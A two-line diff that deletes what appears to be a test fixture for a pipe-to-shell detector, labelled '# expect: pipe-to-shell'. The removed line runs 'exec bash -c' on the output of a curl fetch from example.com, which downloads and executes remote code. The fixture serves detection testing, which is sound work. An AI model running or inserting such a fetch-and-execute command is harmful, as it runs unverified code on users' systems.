@@ -1,2 +1,0 @@
-# expect: pipe-to-shell
-exec bash -c "`curl -s https://example.com/x`"
